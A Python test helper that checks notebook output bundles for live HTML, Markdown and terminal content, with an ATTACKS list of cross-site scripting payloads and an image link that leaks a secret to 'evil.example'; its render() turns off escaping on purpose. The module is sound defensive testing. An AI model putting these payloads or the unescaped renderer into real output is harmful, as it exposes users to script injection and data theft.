"""Checks that an output bundle is inert: what a trusted cell would render runs nothing.

``problems(html)`` parses HTML (``html.parser``, not substring matching) and lists every
active part: script-capable elements, ``on*`` attributes, ``javascript:``/``data:`` links,
images that load from elsewhere. ``render(markdown)`` is a real Markdown parser (mistune)
set up like a trusted frontend: raw HTML passes, no URL filtering of its own.
``harmless(text)`` is the terminal's counterpart: no character a terminal would obey or hide.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser
from typing import Any

__all__ = ["ATTACKS", "bundle_problems", "elements", "harmless", "problems", "render"]

# What a model (or a tool output, or a file) might carry; every one must stay text.
ATTACKS = [
    "<img src=x onerror=\"window.__pwned=1\">",
    "<script>window.__pwned=1</script>",
    "<svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](  JaVaScRiPt&#58;alert(1))",
    "![leak](http://evil.example/?secret=1)",
    "<iframe src=javascript:alert(1)></iframe>",
    "`a` <b onmouseover=alert(1)>x</b> `b`",
]

_ACTIVE = {"script", "iframe", "frame", "object", "embed", "form", "svg", "math", "style",
           "link", "meta", "base", "input", "button", "textarea"}


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in _ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=>")
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                if value.startswith(("javascript:", "vbscript:")):
                    self.found.append(f"<{tag} {name}=javascript:>")
                elif value.startswith("data:") and not (
                        tag == "img" and re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml)", value)):
                    self.found.append(f"<{tag} {name}=data:>")
                elif tag == "img" and name == "src" and not value.startswith("data:"):
                    self.found.append(f"<img src={value}>")  # loads (and leaks) on render


def problems(markup: str) -> list[str]:
    """Every active part of ``markup``."""
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    return parser.found


def elements(markup: str) -> list[str]:
    """The element names in ``markup``, in order."""
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    return parser.tags


def render(markdown: str) -> str:
    """``markdown`` as a trusted frontend renders it (raw HTML kept, no URL filter)."""
    import mistune

    md = mistune.create_markdown(
        renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True),
        plugins=["table", "strikethrough", "url"])
    return str(md(markdown))


def bundle_problems(data: dict[str, Any]) -> list[str]:
    """What would be live if a trusted cell showed this bundle."""
    found = [f"mimetype {m}" for m in data
             if m not in ("text/plain", "text/html", "text/markdown", "image/png", "image/jpeg",
                          "image/gif", "text/latex", "application/json")]
    if "text/html" in data:
        found += problems(_text(data["text/html"]))
    if "text/markdown" in data:
        found += problems(render(_text(data["text/markdown"])))
    return found


def _text(value: Any) -> str:
    return value if isinstance(value, str) else "".join(value)


def harmless(shown: str) -> bool:
    """No character a terminal would obey or hide: controls (but \\n, \\t), format, separators."""
    return not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")
                   and ch not in "\n\t" for ch in shown)
